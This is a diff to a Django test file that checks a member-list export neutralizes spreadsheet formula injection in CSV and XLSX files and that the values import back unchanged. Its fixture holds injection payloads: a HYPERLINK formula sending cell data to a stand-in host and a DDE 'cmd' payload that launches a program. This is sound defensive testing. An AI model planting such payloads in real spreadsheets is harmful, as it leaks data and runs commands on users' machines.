@@ -1,12 +1,18 @@
 """Exporting the member list: scoped and filtered, audited, a long list as a
 background job; the files keep Vietnamese labels whatever the screen language."""
 
+import csv as csv_module
+import datetime
+import io
+
 import pytest
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from members import exports
+from members.imports import import_members
 from members.models import Member
-from members.tables import member_rows, read_table, write_csv
+from members.tables import error_copy, member_rows, read_table, write_csv
 from organizations.models import AuditEntry, Job
 from tests.factories import MemberFactory
 
@@ -86,3 +92,48 @@ def test_files_use_vietnamese_choices_whatever_the_screen_language(org_tree):
     headers, rows = read_table("x.csv", content)
     assert rows[0][headers.index("Tôn giáo")] == "Phật giáo"
     assert rows[0][headers.index("Trạng thái")] == "Chính thức"
+
+
+FORMULAS = {
+    "full_name": '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
+    "permanent_address": "=cmd|' /C calc'!A0",
+    "temporary_address": "@SUM(1+1)",
+    "occupation": "+84 912 345 678",
+}
+
+
+def test_text_a_spreadsheet_would_run_is_neutralized_and_imports_back_unchanged(
+    org_tree, hothau_secretary, client_as
+):
+    MemberFactory(
+        organization=org_tree.hothau_village,
+        cccd="002098001234",
+        birth_date=datetime.date(1998, 1, 2),
+        sex=Member.Sex.MALE,
+        **FORMULAS,
+    )
+    client = client_as(hothau_secretary)
+    csv = client.get(reverse("members:export"), {"format": "csv"}).content
+    cells = next(
+        csv_module.reader(io.StringIO(csv.decode("utf-8-sig").splitlines()[1]))
+    )
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    assert "'" + FORMULAS["full_name"] in cells
+    xlsx = client.get(reverse("members:export"), {"format": "xlsx"}).content
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
+    assert FORMULAS["full_name"] in [cell.value for cell in sheet[2]]
+    for name, content in (("m.csv", csv), ("m.xlsx", xlsx)):
+        result = import_members(name, content, by=hothau_secretary)
+        assert (result.created, result.updated, result.unchanged) == (0, 0, 1), (
+            result.error_lines()
+        )
+    member = Member.objects.get(cccd="002098001234")
+    assert {field: getattr(member, field) for field in FORMULAS} == FORMULAS
+
+
+def test_the_error_copy_of_an_import_runs_no_formula():
+    copy = error_copy(["Họ và tên"], [["=1+1"], ["Lù Seo Chứ"]], {2: ["sai"]})
+    sheet = load_workbook(io.BytesIO(copy)).active
+    assert (sheet["A2"].value, sheet["A2"].data_type) == ("=1+1", "s")
+    assert sheet["B2"].value == "sai"
